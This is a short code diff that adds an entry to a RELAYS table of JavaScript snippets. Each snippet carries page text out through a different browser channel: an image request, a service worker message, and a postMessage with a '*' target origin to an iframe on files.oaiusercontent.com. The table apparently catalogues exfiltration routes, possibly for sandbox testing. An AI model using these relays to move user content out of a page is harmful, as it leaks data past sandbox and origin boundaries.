@@ -11,6 +11,8 @@ export const RELAYS: Readonly<Record<string, string>> = {
     if (!navigator.serviceWorker.controller)
       await new Promise((resolve) => { navigator.serviceWorker.oncontrollerchange = resolve });
     new Image().src = '/relayed/' + encodeURIComponent(text)`,
+  'the WebSocket of a service worker': `await navigator.serviceWorker.register('/relay.js');
+    const { active } = await navigator.serviceWorker.ready; active.postMessage({ frame: text })`,
   'a frame of another host': `const frame = document.createElement('iframe'); frame.src = 'https://files.oaiusercontent.com/relay';
     document.body.append(frame); await new Promise((resolve) => { frame.onload = resolve });
     frame.contentWindow.postMessage(text, '*')`,
